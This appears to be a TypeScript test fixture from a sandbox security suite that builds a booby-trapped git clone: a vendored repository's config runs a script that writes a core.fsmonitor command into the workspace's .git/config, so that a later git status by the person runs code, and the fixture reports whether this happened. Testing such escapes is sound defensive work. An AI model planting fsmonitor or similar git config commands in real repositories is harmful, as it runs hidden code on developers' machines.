import { copyFileSync, cpSync, existsSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { git, type AttackMesh } from "./attack-mesh.ts";
import { snapshotTree, treeDifferences } from "./tree-snapshot.ts";

export interface Trap {
  /** Settings of the committed bare repository `vendor/x`; `GO` stands for a command that runs its script. */
  readonly config: string;
  readonly attributes?: string;
}

export interface TrapRepository {
  readonly workspace: string;
  /** What the trap has done: files changed in the workspace, and code that ran as the person afterwards. Empty where nothing. */
  readonly sprung: () => string[];
}

const IN_WORKSPACE = "sh /workspace/vendor/x/go.sh";

/**
 * A clone as a stranger prepared it: a folder in it is itself a repository, whose settings name a program. Once that runs in
 * the sandbox it plants a program in the workspace's own `.git/config`, for the person's next git command outside.
 */
export function createTrapRepository(mesh: AttackMesh, { config, attributes = "" }: Trap): TrapRepository {
  const ranOutside = join(mesh.workspace(), "ran-as-the-person");
  const inner = mesh.repository({ "a.txt": "committed\n", ".gitattributes": attributes });
  const workspace = mesh.repository({ "README.md": "# A library\n" });
  const vendored = join(workspace, "vendor", "x");
  cpSync(join(inner, ".git"), vendored, { recursive: true });
  rmSync(join(vendored, "hooks"), { recursive: true, force: true });
  copyFileSync(join(inner, ".gitattributes"), join(vendored, ".gitattributes"));
  writeFileSync(join(vendored, "a.txt"), "changed since\n");
  const plant = `git config --file /workspace/.git/config core.fsmonitor 'touch ${ranOutside}; false'`;
  writeFileSync(join(vendored, "go.sh"), `touch /workspace/ran-inside\n${plant}\ntimeout 1 cat\n`);
  writeFileSync(join(vendored, "config"), config.replaceAll("GO", IN_WORKSPACE));
  mesh.commit(workspace);
  // Once, so that the index is fresh and a person's git has nothing to write.
  git(workspace, "status");
  const before = snapshotTree(workspace);
  return {
    workspace,
    sprung: () => {
      const changes = treeDifferences(before, snapshotTree(workspace));
      git(workspace, "status");
      return [...changes, ...(existsSync(ranOutside) ? ["the person's git status ran code of the repository"] : [])];
    },
  };
}
